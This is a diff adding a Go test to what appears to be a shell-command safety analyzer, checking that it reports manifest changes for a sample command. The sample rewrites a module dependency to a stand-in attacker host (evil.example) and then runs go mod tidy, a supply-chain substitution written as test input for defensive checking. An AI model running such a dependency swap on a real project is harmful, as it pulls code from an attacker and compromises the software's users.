@@ -58,3 +58,16 @@ func TestManifestsHoweverWritten(t *testing.T) {
 		}
 	}
 }
+
+// TestNamesThatNobodyLooksAt: where a host lets no file be read, what a line changes in a manifest
+// is told without the names.
+func TestNamesThatNobodyLooksAt(t *testing.T) {
+	c := gates.ShellContext("go mod edit -replace a.example/b=evil.example/b@v1.0.0 && go mod tidy", gates.State{Cwd: "/w", Roots: []string{"/w"}})
+	told := 0
+	for i := range c.Effects {
+		told += len(c.Turned(i))
+	}
+	if told == 0 {
+		t.Error("nothing is told")
+	}
+}
